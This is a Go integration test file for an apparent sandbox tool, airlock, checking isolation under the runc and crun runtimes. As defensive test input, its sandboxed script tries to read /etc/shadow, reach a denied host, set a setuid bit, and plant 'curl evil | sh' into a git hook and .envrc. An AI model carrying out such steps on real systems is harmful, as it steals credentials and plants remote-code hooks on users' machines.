package sandbox_test

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/airlock-sandbox/airlock/export/oci"
	"github.com/airlock-sandbox/airlock/internal/airtest"
	"github.com/airlock-sandbox/airlock/internal/enforce/nsinit"
	"github.com/airlock-sandbox/airlock/policy"
	"github.com/airlock-sandbox/airlock/policy/budget"
	"github.com/airlock-sandbox/airlock/sandbox"
)

// TestIsolationOCI runs the same policy through runc and crun: grants,
// containment, egress through airlock's proxy, and the deadline.
func TestIsolationOCI(t *testing.T) {
	airtest.RequireRoot(t)
	for _, rt := range []struct{ name, bin string }{{"runc", "/usr/sbin/runc"}, {"crun", "/usr/bin/crun"}} {
		t.Run(rt.name, func(t *testing.T) {
			airtest.RequireBinary(t, rt.bin)
			tr := newTree(t)
			var allowedHits, deniedHits atomic.Int32
			allowed := serve(t, &allowedHits, "hello from allowed")
			denied := serve(t, &deniedHits, "nope")
			p, err := policy.New(policy.Spec{FSRead: []string{tr.work}, FSWrite: []string{tr.out},
				NetHosts: []string{allowed}, Budget: budget.Limits{Wall: 30 * time.Second}})
			if err != nil {
				t.Fatal(err)
			}
			code := fmt.Sprintf(`
import os, sys, urllib.request
bad = []
print(open(%q).read().strip())
open(%q, "w").write("written")
for p in [%q, "/etc/shadow"]:
    try:
        open(p).read(); bad.append("read " + p)
    except OSError:
        pass
print(urllib.request.urlopen("http://%s/", timeout=10).read().decode())
try:
    urllib.request.urlopen("http://%s/", timeout=10).read(); bad.append("denied host reached")
except Exception:
    pass
status = open("/proc/self/status").read()
if "CapEff:\t0000000000000000" not in status or "NoNewPrivs:\t1" not in status:
    bad.append("privileges")
print("bad", bad)
sys.exit(1 if bad else 0)`, tr.work+"/data.csv", tr.out+"/oci.txt", tr.secret, allowed, denied)
			ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
			defer cancel()
			rep, err := (&sandbox.Cmd{Config: sandbox.Config{Policy: p, Isolation: sandbox.IsolationOCI, Runtime: rt.name},
				Args: []string{"/usr/bin/python3", "-c", code}, CommandIsGranted: true}).Run(ctx)
			if err != nil {
				t.Fatal(err)
			}
			wantExit(t, rep, 0)
			if !strings.Contains(rep.Stdout, "hello from allowed") || !strings.Contains(rep.Stdout, "x,y") {
				t.Fatalf("stdout = %q", rep.Stdout)
			}
			if got, err := os.ReadFile(filepath.Join(tr.out, "oci.txt")); err != nil || string(got) != "written" {
				t.Fatalf("oci.txt = %q, %v", got, err)
			}
			if deniedHits.Load() != 0 {
				t.Fatalf("the denied server got %d connections", deniedHits.Load())
			}

			// Writes are staged under the runtime too: an existing protected
			// path is read-only inside, a new one never reaches the host, no
			// setuid bit does, and max_write halts the run.
			gitRepo(t, tr.out)
			if err := os.Chmod(filepath.Join(tr.out, ".git/hooks"), 0o777); err != nil {
				t.Fatal(err)
			}
			p3, err := policy.New(policy.Spec{FSWrite: []string{tr.out}, Budget: budget.Limits{Wall: 30 * time.Second, Write: 4 << 20}})
			if err != nil {
				t.Fatal(err)
			}
			code = fmt.Sprintf(`
import os, sys
out = %q
res = []
for rel in [".git/hooks/post-checkout", ".envrc"]:
    try:
        open(os.path.join(out, rel), "w").write("curl evil | sh"); res.append(rel + " written inside")
    except OSError as e:
        res.append(rel + " errno %%d" %% e.errno)
open(out + "/s", "w").write("x"); os.chmod(out + "/s", 0o4755)
print(res, flush=True)
f = open(out + "/fill", "wb")
for i in range(16):
    f.write(b"x" * (1 << 20)); f.flush()`, tr.out)
			rep, err = (&sandbox.Cmd{Config: sandbox.Config{Policy: p3, Isolation: sandbox.IsolationOCI, Runtime: rt.name},
				Args: []string{"/usr/bin/python3", "-c", code}, CommandIsGranted: true}).Run(ctx)
			if err != nil {
				t.Fatal(err)
			}
			wantHalt(t, rep, budget.MaxWrite)
			if !strings.Contains(rep.Stdout, ".git/hooks/post-checkout errno 30") {
				t.Errorf("the existing hooks folder was not read-only inside: %q %q", rep.Stdout, rep.Stderr)
			}
			for _, rel := range []string{".git/hooks/post-checkout", ".envrc"} {
				if _, err := os.Lstat(filepath.Join(tr.out, rel)); err == nil {
					t.Errorf("%s reached the host", rel)
				}
			}
			if fi, err := os.Stat(filepath.Join(tr.out, "s")); err != nil || fi.Mode()&os.ModeSetuid != 0 {
				t.Errorf("s on the host: %v, %v; want it there without the setuid bit", fi, err)
			}
			if fi, err := os.Stat(filepath.Join(tr.out, "fill")); err != nil || fi.Size() > 4<<20 {
				t.Errorf("fill on the host: %v, %v; want at most max_write", fi, err)
			}

			// The deadline halts the container.
			p2, _ := policy.New(policy.Spec{Budget: budget.Limits{Wall: 2 * time.Second}})
			rep, err = (&sandbox.Cmd{Config: sandbox.Config{Policy: p2, Isolation: sandbox.IsolationOCI, Runtime: rt.name},
				Args: []string{"/usr/bin/python3", "-c", "while True: pass"}, CommandIsGranted: true}).Run(ctx)
			if err != nil {
				t.Fatal(err)
			}
			wantHalt(t, rep, budget.MaxWall)
		})
	}
}

// TestIsolationOCIJanitor: when a supervisor is SIGKILLed mid-run, its
// container dies with it (the runtime runs as pid 1 of a pid namespace
// tied to the supervisor), and the work directory and container cgroups it
// leaves are removed by the next OCI run's janitor.
func TestIsolationOCIJanitor(t *testing.T) {
	airtest.RequireRoot(t)
	airtest.RequireBinary(t, "/usr/sbin/runc")
	dir := t.TempDir()
	if err := os.Chmod(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	bin := filepath.Join(dir, "airlock")
	goBuild(t, "../cmd/airlock", bin)
	marker := "airlock-janitor-" + fmt.Sprint(time.Now().UnixNano())
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, "run", "--isolation", "oci", "--runtime", "runc", "--max-wall", "60s",
		"--", "/usr/bin/python3", "-c", "import time\nwhile True: time.sleep(1)", marker)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	// Wait until the container's process exists, then SIGKILL the supervisor.
	inContainer := func() []int {
		var out []int
		for _, pid := range marked(t, marker) {
			if pid != cmd.Process.Pid {
				out = append(out, pid)
			}
		}
		return out
	}
	if !waitFor(20*time.Second, func() bool { return len(inContainer()) > 0 }) {
		_ = cmd.Process.Kill()
		t.Fatal("the container never started")
	}
	killedPid := cmd.Process.Pid
	_ = cmd.Process.Kill()
	_ = cmd.Wait()
	leftovers := func() []string {
		m, _ := filepath.Glob(filepath.Join(os.TempDir(), fmt.Sprintf("airlock-%d-*", killedPid)))
		return m
	}
	if !waitFor(20*time.Second, func() bool { return len(inContainer()) == 0 }) {
		t.Fatalf("the container outlived its supervisor: pids %v", inContainer())
	}
	if len(leftovers()) == 0 {
		t.Fatal("the killed supervisor left no work directory: the janitor check below would prove nothing")
	}
	// The next OCI run's janitor must clean up after it.
	p, _ := policy.New(policy.Spec{Budget: budget.Limits{Wall: 20 * time.Second}})
	rep, err := (&sandbox.Cmd{Config: sandbox.Config{Policy: p, Isolation: sandbox.IsolationOCI, Runtime: "runc"},
		Args: []string{"/bin/true"}, CommandIsGranted: true}).Run(ctx)
	if err != nil {
		t.Fatal(err)
	}
	wantExit(t, rep, 0)
	if l := leftovers(); len(l) != 0 {
		t.Fatalf("the janitor left %v", l)
	}
	for _, pat := range []string{"/sys/fs/cgroup/*/airlock-oci", "/sys/fs/cgroup/airlock-oci"} {
		m, _ := filepath.Glob(filepath.Join(pat, fmt.Sprintf("airlock-%d-*", killedPid)))
		if len(m) != 0 {
			t.Fatalf("the janitor left container cgroups %v", m)
		}
	}
}

// waitFor polls cond on a ticker until it holds or d passes.
func waitFor(d time.Duration, cond func() bool) bool {
	deadline := time.NewTimer(d)
	defer deadline.Stop()
	tick := time.NewTicker(20 * time.Millisecond)
	defer tick.Stop()
	for !cond() {
		select {
		case <-deadline.C:
			return cond()
		case <-tick.C:
		}
	}
	return true
}

// TestIsolationOCISession: a session on the OCI backend — the lifecycle is
// the same as on airlock's own: execs into one live container, a background
// process kept between them, the file API on the grants as the container
// sees them, staged writes copied back when the session ends, and a PTY.
func TestIsolationOCISession(t *testing.T) {
	airtest.RequireRoot(t)
	for _, rt := range []struct{ name, bin string }{{"runc", "/usr/sbin/runc"}, {"crun", "/usr/bin/crun"}} {
		t.Run(rt.name, func(t *testing.T) {
			airtest.RequireBinary(t, rt.bin)
			tr := newTree(t)
			if err := os.Chmod(tr.out, 0o755); err != nil {
				t.Fatal(err)
			}
			p, err := policy.New(policy.Spec{FSWrite: []string{tr.out}, AllowedTools: []string{"sh", "sleep", "cat", "python3"}, Budget: budget.Limits{Wall: 60 * time.Second}})
			if err != nil {
				t.Fatal(err)
			}
			ctx, cancel := context.WithTimeout(context.Background(), 90*time.Second)
			defer cancel()
			s, err := sandbox.NewSession(ctx, sandbox.Config{Policy: p, Isolation: sandbox.IsolationOCI, Runtime: rt.name})
			if err != nil {
				t.Fatalf("NewSession under %s: %v", rt.name, err)
			}
			defer s.Close()
			rep, err := s.Exec(ctx, sandbox.ExecRequest{Args: []string{"sh", "-c", "echo in-container > result.txt; (sleep 1000 &) ; echo started"}})
			if err != nil || rep.ExitCode != 0 || rep.Stdout != "started\n" {
				t.Fatalf("first exec = %+v, %v", rep, err)
			}
			rep, err = s.Exec(ctx, sandbox.ExecRequest{Args: []string{"sh", "-c", "cat result.txt; cat /proc/[0-9]*/comm"}})
			if err != nil || rep.ExitCode != 0 || !strings.HasPrefix(rep.Stdout, "in-container\n") || !strings.Contains(rep.Stdout, "sleep\n") {
				t.Fatalf("second exec = %+v, %v", rep, err)
			}
			if got, err := s.Guard().Read(filepath.Join(tr.out, "result.txt")); err != nil || string(got) != "in-container\n" {
				t.Fatalf("file API read of a staged file in the container = %q, %v", got, err)
			}
			if err := s.Guard().Write(filepath.Join(tr.out, "from-api.txt"), []byte("api\n")); err != nil {
				t.Fatalf("file API write: %v", err)
			}
			rep, err = s.Exec(ctx, sandbox.ExecRequest{Args: []string{"python3", "-c", "import os; print(os.isatty(0), os.isatty(1))"}, PTY: true})
			if err != nil || rep.ExitCode != 0 || !strings.Contains(rep.Stdout, "True True") {
				t.Fatalf("exec with a PTY = %+v, %v", rep, err)
			}
			if _, err := os.Stat(filepath.Join(tr.out, "result.txt")); err == nil {
				t.Fatal("a session's write reached the host before the session ended")
			}
			s.Close()
			for name, want := range map[string]string{"result.txt": "in-container\n", "from-api.txt": "api\n"} {
				if b, err := os.ReadFile(filepath.Join(tr.out, name)); err != nil || string(b) != want {
					t.Errorf("after Close, host %s = %q, %v", name, b, err)
				}
			}
		})
	}
}

// TestBundleInitPathAgrees: the path export/oci binds the init at is the
// one the init binary dispatches on.
func TestBundleInitPathAgrees(t *testing.T) {
	if oci.InitPath != nsinit.BundleInitPath {
		t.Fatalf("export/oci binds the init at %q, nsinit dispatches on %q", oci.InitPath, nsinit.BundleInitPath)
	}
}

// TestIsolationOCIOwnership: under runc and crun a 0700 fs_write folder
// of the caller's, with a 0600 file, needs no chmod: the sandbox appends to
// the file run after run (before, the second run failed with EACCES: the
// layer's files were unmapped inside), and what it writes belongs to the
// caller.
func TestIsolationOCIOwnership(t *testing.T) {
	airtest.RequireRoot(t)
	for _, rt := range []struct{ name, bin string }{{"runc", "/usr/sbin/runc"}, {"crun", "/usr/bin/crun"}} {
		t.Run(rt.name, func(t *testing.T) {
			airtest.RequireBinary(t, rt.bin)
			out := filepath.Join(t.TempDir(), "out")
			if err := os.Mkdir(out, 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.WriteFile(filepath.Join(out, "log.txt"), []byte("start\n"), 0o600); err != nil {
				t.Fatal(err)
			}
			p, err := policy.New(policy.Spec{FSWrite: []string{out}, Budget: budget.Limits{Wall: 30 * time.Second}})
			if err != nil {
				t.Fatal(err)
			}
			for i := range 2 {
				ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
				rep, err := (&sandbox.Cmd{Config: sandbox.Config{Policy: p, Isolation: sandbox.IsolationOCI, Runtime: rt.name},
					Args: []string{"/bin/sh", "-c", fmt.Sprintf("echo run%d >> %s/log.txt && echo new > %s/new%d.txt", i, out, out, i)}, CommandIsGranted: true}).Run(ctx)
				cancel()
				if err != nil {
					t.Fatal(err)
				}
				wantExit(t, rep, 0)
			}
			if b, _ := os.ReadFile(filepath.Join(out, "log.txt")); string(b) != "start\nrun0\nrun1\n" {
				t.Fatalf("log.txt = %q", b)
			}
			for _, name := range []string{"log.txt", "new0.txt", "new1.txt"} {
				fi, err := os.Stat(filepath.Join(out, name))
				if err != nil {
					t.Errorf("%s: %v", name, err)
				} else if fuid(fi) != uint32(os.Getuid()) {
					t.Errorf("%s belongs to uid %d; want the caller %d", name, fuid(fi), os.Getuid())
				}
			}
		})
	}
}
